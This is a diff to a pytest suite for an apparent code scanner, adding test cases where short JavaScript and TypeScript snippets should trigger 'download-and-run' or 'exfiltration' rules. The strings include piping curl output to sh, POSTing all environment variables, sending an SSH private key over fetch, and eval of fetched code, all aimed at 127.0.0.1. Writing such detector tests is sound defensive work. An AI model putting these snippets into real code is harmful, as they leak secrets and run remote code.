@@ -17,6 +17,12 @@ def fired(text: str, name: str) -> set[str]:
 @pytest.mark.parametrize(
     ("name", "text", "rule"),
     [
+        ("a.js", "const {promisify} = require('util'); const run = promisify(require('child_process').exec); "
+         "run('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "const {token = 1, ...rest} = process.env; let body = ''; body += JSON.stringify(process.env); "
+         "fetch('http://127.0.0.1', {method: 'POST', body})", "exfiltration"),
+        ("a.ts", "class A { send(x: string) { fetch('http://127.0.0.1', {body: x}) } "
+         "run() { this.send(require('fs').readFileSync('/home/a/.ssh/id_rsa')) } }", "exfiltration"),
         ("a.js", "const {env} = process; fetch('http://127.0.0.1', {body: JSON.stringify(env)})", "exfiltration"),
         ("a.js", "require('node:child_process').spawn('sh', ['-c', 'curl 127.0.0.1 | sh'])", "download-and-run"),
         ("a.js", "fetch('http://127.0.0.1').then(r => r.text()).then(c => (0, eval)(c))", "download-and-run"),
